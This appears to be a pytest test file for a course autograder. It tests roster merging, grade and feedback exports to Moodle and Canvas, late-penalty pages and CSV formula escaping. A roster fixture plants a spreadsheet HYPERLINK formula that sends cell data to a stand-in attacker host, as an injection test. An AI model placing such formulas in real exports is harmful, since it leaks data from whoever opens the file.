"""Grades and feedback back to the LMS, the roster over a term, and CSV that stays data.

Issue 27: a second, smaller roster import merges (items 7); an LMS export that cannot match
a student says so and exits 1 (7); feedback goes back through Moodle (feedback files zip,
grading worksheet, grade CSV with every feedback cell filled) and Canvas (grade CSV,
Re-Upload Submissions zip) (11); the late-penalty page shows the penalised score and the
course's time zone (16). Issue 31: no CSV cell is a live formula.

A tiny assignment (4 + 12 points) is recorded in a real nbgrader gradebook; its submissions
are collected from real LMS downloads (Moodle, Canvas, Blackboard) and their grades are
committed the way `course grade` commits them (no notebook runs here).
"""
from __future__ import annotations

import csv
import io
import shutil
import zipfile

import nbformat
import pytest

from attacks import inject
from lms_support import add_config, cli_run, make_zip  # noqa: F401 - cli_run is a fixture

pytestmark = pytest.mark.database   # release, grade: an nbgrader gradebook

ASSIGNMENT = "00_lms"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
ROSTER = f"""id,first_name,last_name,email,lms_id
ada,Ada,Lovelace,ada@example.org,123
hugo,Hugo,"{FORMULA.replace('"', '""')}",hugo@example.org,555
eve,Eve,Adams,-eve@example.org,
"""
ANSWER = '''def double(x):
    ### BEGIN SOLUTION
    return 2 * x
    ### END SOLUTION'''
TEST = '''@probe(torch=False)
def _double(x):
    return answer("double")(x)

check("double(2)", _double, 2, expect=4)'''


def _cell(source, grade_id, **flags):
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata["nbgrader"] = {"grade_id": grade_id, "schema_version": 3, "task": False,
                                 "solution": False, "grade": False, "locked": True, **flags}
    return cell


@pytest.fixture(scope="module")
def released_course(tmp_path_factory):
    """The tiny assignment's source and release (nbgrader generates it once per module)."""
    from course.nbgrader_course import generate_release

    root = tmp_path_factory.mktemp("lms") / "course"
    source = nbformat.read(str(inject.REPO / "solutions" / "02_devices" / "02_devices.ipynb"), as_version=4)
    tools = next(c for c in source.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "grading_tools")
    notebook = nbformat.v4.new_notebook()
    notebook.metadata["kernelspec"] = {"display_name": "Python 3", "language": "python", "name": "python3"}
    notebook.cells = [_cell(tools.source, "grading_tools"), _cell(ANSWER, "double", solution=True, locked=False),
                      _cell(TEST, "test_one", grade=True, points=4), _cell(TEST, "test_three", grade=True, points=12)]
    (root / "solutions" / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(notebook, str(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"))
    (root / "course").mkdir()
    shutil.copy(inject.REPO / "course" / "nbgrader_config.py", root / "course" / "nbgrader_config.py")
    generate_release([ASSIGNMENT], root)
    return root


@pytest.fixture()
def course_root(released_course, tmp_path):
    root = tmp_path / "course"
    shutil.copytree(released_course, root)
    add_config(root, f'c.CourseDeadlines.due = {{"{ASSIGNMENT}": "2026-11-20 23:59 Europe/Berlin"}}\n'
                     f'c.PercentPerDay.percent_per_day = {{"{ASSIGNMENT}": 20}}')
    return root


def _notebook(root) -> bytes:
    return (root / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes()


@pytest.fixture()
def graded(course_root, tmp_path, cli_run):
    """ada from Moodle, hugo from Canvas, eve from Blackboard a day late; all graded 16/16
    except hugo (4/16)."""
    from autograder import autograded_notebook
    from autograder.grade import Grader
    from autograder.judge import TestResult
    from autograder.results import GradebookWriter, SubmissionRow
    from coursebase.model import Course

    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER)
    assert cli_run(course_root, "roster", "import", str(roster), "--gradebook-only").returncode == 0
    notebook = _notebook(course_root)
    downloads = {
        "moodle": {f"Ada Lovelace_301_assignsubmission_file/{ASSIGNMENT}.ipynb": notebook},
        "canvas": {f"smithhugo_555_9002_{ASSIGNMENT}.ipynb": notebook},
        "blackboard": {f"Lms_eve_attempt_2026-11-21-10-00-00_{ASSIGNMENT}.ipynb": notebook},
    }
    for lms, files in downloads.items():
        result = cli_run(course_root, "collect", ASSIGNMENT, "--from", str(make_zip(tmp_path / f"{lms}.zip", files)),
                         "--timezone", "Europe/Berlin")
        assert result.returncode == 0, result.stdout + result.stderr
    course = Course.load(course_root)
    grader = Grader(course, ASSIGNMENT)
    writer = GradebookWriter(course, ASSIGNMENT, grader.spec)
    try:
        for student, passed in (("ada", True), ("hugo", False), ("eve", True)):
            row = SubmissionRow(student, 16.0 if passed else 4.0, 16.0, "ok", "ok", [
                TestResult("test_one", 4.0, 4.0, True, "ok"),
                TestResult("test_three", 12.0 if passed else 0.0, 12.0, passed,
                           "ok" if passed else "double(2): expected 4, got 5", "" if passed else "Compare")])
            row.autograded, _ = autograded_notebook.build(grader.spec, nbformat.reads(notebook.decode(), as_version=4))
            writer.commit(row)
    finally:
        writer.close()
    return course


def _rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


# -- the roster over a term -------------------------------------------------------------------

def test_a_smaller_roster_import_merges_and_says_what_changed(course_root, tmp_path, cli_run):
    from coursebase.roster import read_roster

    full = tmp_path / "full.csv"
    full.write_text("id,first_name,last_name,email,lms_id\n" + "".join(
        f"s{n},First{n},Last{n},,{1000 + n}\n" for n in range(10)))
    assert cli_run(course_root, "roster", "import", str(full), "--gradebook-only").returncode == 0
    # Week 2: two students' new emails, from a file without lms_id, and one new student.
    smaller = tmp_path / "week2.csv"
    smaller.write_text("id,first_name,last_name,email\ns1,First1,Last1,s1@example.org\n"
                       "s2,First2,Last2,s2@example.org\nzed,Zed,New,\n")
    result = cli_run(course_root, "roster", "import", str(smaller), "--gradebook-only")
    assert result.returncode == 0, result.stderr
    assert "1 added (zed), 2 updated (s1: email '' -> 's1@example.org'; s2: email" in result.stdout
    assert "8 student(s) on the roster but not in this file, kept" in result.stdout
    assert "--remove-missing" in result.stdout
    saved = {s.id: s for s in read_roster(course_root / "var" / "roster.csv")}
    assert len(saved) == 11 and saved["s7"].lms_id == "1007" and saved["s1"].lms_id == "1001"
    # The Canvas download of the whole class still matches everyone.
    download = make_zip(tmp_path / "canvas.zip", {f"last{n}first{n}_{1000 + n}_{9000 + n}_{ASSIGNMENT}.ipynb":
                                                  _notebook(course_root) for n in range(10)})
    collected = cli_run(course_root, "collect", ASSIGNMENT, "--from", str(download))
    assert collected.returncode == 0 and "collected 10 submission(s)" in collected.stdout, collected.stdout
    # The gradebook kept the LMS ids too (nbgrader's own record of them).
    from nbgrader.api import Gradebook
    from coursebase.model import Course
    course = Course.load(course_root)
    with Gradebook(course.db_url, course.course_id) as gradebook:
        assert gradebook.find_student("s7").lms_user_id == "1007"
        assert gradebook.find_student("s1").email == "s1@example.org"
    # Removing needs the flag, and says who.
    removed = cli_run(course_root, "roster", "import", str(smaller), "--gradebook-only", "--remove-missing")
    assert "removed 8 student(s) not in this file (s0, s3, s4, s5, s6, s7, s8, s9)" in removed.stdout
    assert sorted(s.id for s in read_roster(course_root / "var" / "roster.csv")) == ["s1", "s2", "zed"]


def test_a_roster_giving_one_lms_id_to_two_students_is_refused(course_root, tmp_path, cli_run):
    first = tmp_path / "first.csv"
    first.write_text("id,first_name,last_name,lms_id\nada,Ada,Lovelace,123\n")
    assert cli_run(course_root, "roster", "import", str(first), "--gradebook-only").returncode == 0
    second = tmp_path / "second.csv"
    second.write_text("id,first_name,last_name,lms_id\neve,Eve,Adams,123\n")
    result = cli_run(course_root, "roster", "import", str(second), "--gradebook-only")
    assert result.returncode == 1 and "lms_id '123' would belong to both ada and eve" in result.stderr
    second.write_text("id,first_name,last_name,lms_id\neve,Eve,Adams,7\nbo,Bo,Li,7\n")
    result = cli_run(course_root, "roster", "import", str(second), "--gradebook-only")
    assert result.returncode == 1 and "line 3: lms_id '7' is also line 2's: an LMS id names one student" in result.stderr


def test_an_lms_export_without_some_students_ids_says_so_and_exits_1(graded, cli_run):
    result = cli_run(graded.root, "export", ASSIGNMENT, "--format", "canvas")
    assert result.returncode == 1, result.stdout + result.stderr
    line = result.stderr.strip()
    assert "leaving out 1 graded student(s) (eve): no Canvas user id" in line and len(line.splitlines()) == 1
    rows = _rows(graded.reports_root / ASSIGNMENT / "grades-canvas.csv")
    assert [row[1] for row in rows[1:]] == ["123", "555"]


# -- feedback back through the LMS --------------------------------------------------------------

def test_moodle_gets_a_feedback_zip_a_worksheet_and_a_grade_csv_with_feedback(graded, cli_run):
    result = cli_run(graded.root, "feedback", ASSIGNMENT, "--lms", "moodle")
    assert result.returncode == 1, result.stdout + result.stderr  # hugo and eve did not come from Moodle
    assert "1 student(s) named as Moodle's download named them" in result.stdout
    assert "2 graded student(s) were not collected from a Moodle download" in result.stderr
    folder = graded.reports_root / ASSIGNMENT
    with zipfile.ZipFile(folder / "moodle-feedback.zip") as archive:
        names = sorted(archive.namelist())
        page = archive.read(f"Ada Lovelace_301_assignsubmission_file/{ASSIGNMENT}-feedback.html").decode()
    assert names == [f"Ada Lovelace_301_assignsubmission_file/{ASSIGNMENT}-feedback.html",
                     f"eve/{ASSIGNMENT}-feedback.html", f"hugo/{ASSIGNMENT}-feedback.html"]
    assert f"{ASSIGNMENT}: 16 / 16 points" in page
    # Moodle's importer: the path part "<name>_<participant>_<plugin type>_<plugin>" names the participant
    part = names[0].split("/")[0].split("_", 4)
    assert part[1] == "301" and part[2:4] == ["assignsubmission", "file"]
    sheet = _rows(folder / "moodle-grading-worksheet.csv")
    assert sheet[0] == ["Identifier", "Full name", "Email address", "Grade", "Maximum Grade",
                        "Last modified (grade)", "Feedback comments"]
    assert sheet[1][:5] == ["Participant 301", "Ada Lovelace", "ada@example.org", "16", "16"]
    assert sheet[1][6].startswith("16 of 16 points. test_one: 4/4. test_three: 12/12")
    exported = cli_run(graded.root, "export", ASSIGNMENT, "--format", "moodle")
    assert exported.returncode == 0, exported.stderr
    rows = {row[0]: row for row in _rows(folder / "grades-moodle.csv")}
    assert all(rows[s][5] for s in ("ada", "hugo", "eve")), rows  # every feedback cell filled
    assert rows["hugo"][5] == "4 of 16 points. test_one: 4/4. test_three: 0/12 - double(2): expected 4, got 5."
    assert rows["eve"][5] == "12.8 of 16 points (16 before the late penalty of 3.2: late by 10h 01m). test_one: 4/4. " \
        "test_three: 12/12."


def test_canvas_gets_a_grade_csv_and_a_re_upload_zip(graded, cli_run):
    result = cli_run(graded.root, "feedback", ASSIGNMENT, "--lms", "canvas")
    assert result.returncode == 1 and "ada, eve" in result.stderr, result.stdout + result.stderr
    with zipfile.ZipFile(graded.reports_root / ASSIGNMENT / "canvas-feedback.zip") as archive:
        names = sorted(archive.namelist())
    assert names == [f"ada/{ASSIGNMENT}-feedback.html", f"eve/{ASSIGNMENT}-feedback.html",
                     f"smithhugo_555_9002_{ASSIGNMENT}-feedback.html"]
    # Canvas reads the user id and the submitted file's id as the first two all-digit parts
    digits = [part for part in names[2].split("_") if part.isdigit()]
    assert digits[:2] == ["555", "9002"]


# -- the late page and the course's time zone -------------------------------------------------

def test_the_late_page_heads_with_the_penalised_score_in_the_course_time_zone(graded, cli_run):
    assert cli_run(graded.root, "feedback", ASSIGNMENT).returncode == 0
    page = (graded.feedback_root / "eve" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert f"<h1>{ASSIGNMENT}: 12.8 / 16 points (after the late penalty; 16 before it)</h1>" in page, page
    assert "Due 2026-11-20 23:59 CET; submitted 2026-11-21 10:00 CET, late by 10h 01m" in page
    assert "UTC" not in page
    on_time = (graded.feedback_root / "ada" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert f"<h1>{ASSIGNMENT}: 16 / 16 points</h1>" in on_time
    add_config(graded.root, 'c.CourseDeadlines.timezone = "America/New_York"')
    cli_run(graded.root, "feedback", ASSIGNMENT)
    page = (graded.feedback_root / "eve" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "Due 2026-11-20 17:59 EST; submitted 2026-11-21 04:00 EST" in page
    exported = cli_run(graded.root, "export", ASSIGNMENT)
    rows = {row[0]: row for row in _rows(graded.reports_root / ASSIGNMENT / "grades.csv")}
    assert rows["eve"][7:10] == ["2026-11-20 17:59 EST", "2026-11-21 04:00 EST", "10h 01m"], exported.stderr


# -- CSV that stays data ----------------------------------------------------------------------

def _live(cells):
    return [(name, value) for name, value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not value.replace(".", "", 1).lstrip("+-").isdigit()]


def test_no_exported_cell_is_a_live_formula(graded, cli_run):
    cli_run(graded.root, "export", ASSIGNMENT)
    cli_run(graded.root, "export", ASSIGNMENT, "--format", "canvas")
    cli_run(graded.root, "export", ASSIGNMENT, "--format", "moodle")
    folder = graded.reports_root / ASSIGNMENT
    files = ["grades.csv", "grades-canvas.csv", "grades-moodle.csv"]
    cells = [(name, value) for name in files for row in _rows(folder / name) for value in row]
    assert not _live(cells), _live(cells)
    assert any(value == "'" + FORMULA for _, value in cells), "the formula name is exported, as text"
    assert any(value == "'-eve@example.org" for _, value in cells)
    assert any(value == "16" for _, value in cells) and any(value == "12.8" for _, value in cells)
    cli_run(graded.root, "feedback", ASSIGNMENT, "--lms", "moodle")
    sheet = [("worksheet", value) for row in _rows(folder / "moodle-grading-worksheet.csv") for value in row]
    assert not _live(sheet), _live(sheet)


def test_the_csv_helper_keeps_numbers_and_neutralises_formulas():
    from autograder.csvsafe import cell

    assert [cell(v) for v in (3, -1.5, "-1.5", "+2", "1e-3", "12.8")] == [3, -1.5, "-1.5", "+2", "1e-3", "12.8"]
    assert [cell(v) for v in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "-", "ok", None)] == [
        "'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\t=1", "'\r=1", "'-", "ok", ""]


def test_every_csv_the_grader_writes_goes_through_the_helper():
    offenders = [path.name for path in (inject.REPO / "autograder").glob("*.py")
                 if path.name != "csvsafe.py" and "csv.writer(" in path.read_text()]
    assert not offenders, offenders
